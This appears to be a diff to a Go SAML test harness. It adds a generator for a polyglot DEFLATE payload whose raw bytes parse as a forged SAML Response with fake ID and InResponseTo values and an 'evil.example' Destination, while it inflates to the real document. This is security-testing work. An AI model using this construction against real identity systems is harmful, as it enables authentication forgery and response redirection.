@@ -1,8 +1,12 @@
 package fam
 
 import (
+	"bytes"
+	"compress/flate"
+	"encoding/base64"
 	"encoding/json"
 	"fmt"
+	"io"
 	"math/rand"
 	"strings"
 
@@ -29,6 +33,7 @@ type pdInput struct {
 	Var     pdVar  `json:"var"`
 	Deflate bool   `json:"deflate"`
 	Before  string `json:"before"`
+	Rawview bool   `json:"rawview"`
 }
 type pdCfg struct {
 	IssuerCfg bool `json:"issuerCfg"`
@@ -120,6 +125,9 @@ func (Predecode) Run(c *orch.Case) *orch.Outcome {
 	}
 	doc := idp.Serialize(root, lay, rng)
 	enc := idp.Encode(doc, in.Deflate)
+	if in.Rawview {
+		enc = base64.StdEncoding.EncodeToString(rawViewStream(in.Kind, doc))
+	}
 	sp := w.NewSP()
 	if !cfg.IssuerCfg {
 		sp.IdentityProviderIssuer = ""
@@ -174,6 +182,33 @@ func (Predecode) Run(c *orch.Case) *orch.Outcome {
 		}
 	}()
 	return &orch.Outcome{Obs: o, Replay: map[string]any{"encoded": enc, "document": string(doc), "sp": describeSP(sp)}}
+}
+
+// rawViewStream is a valid DEFLATE stream that inflates to (text +) doc while its OWN octets, read as XML, begin with
+// a complete root element carrying other addressing values: a stored block whose header octets are printable
+// (0x20 = not final, stored, padding bits free; LEN = 0x9EC3 so that NLEN = 0x613C spells "<a") and whose 40 643
+// literal octets continue the tag, followed by doc compressed as usual.
+func rawViewStream(kind string, doc []byte) []byte {
+	tag := "Response"
+	if kind != "sso" {
+		tag = "LogoutResponse"
+	}
+	lit := []byte(":" + tag + ` xmlns:a="` + idp.NSProtocol + `" ID="_evil-id" InResponseTo="_evil-irt" Destination="https://evil.example/acs" Version="1.1"/>`)
+	const n = 0x9EC3
+	block := append(lit, bytes.Repeat([]byte(" "), n-len(lit))...)
+	out := []byte{0x20, 0xC3, 0x9E, 0x3C, 0x61}
+	out = append(out, block...)
+	var buf bytes.Buffer
+	fw, _ := flate.NewWriter(&buf, 6)
+	fw.Write(doc)
+	fw.Close()
+	out = append(out, buf.Bytes()...)
+	// the generator's own sanity: it is DEFLATE and ends with doc
+	got, err := io.ReadAll(flate.NewReader(bytes.NewReader(out)))
+	if err != nil || !bytes.HasSuffix(got, doc) {
+		orch.Fatal("predecode: raw-view stream is not a DEFLATE stream of the document: %v", err)
+	}
+	return out
 }
 
 func (Predecode) Corrupt(c *orch.Case, o *orch.Outcome) (any, string, bool) {
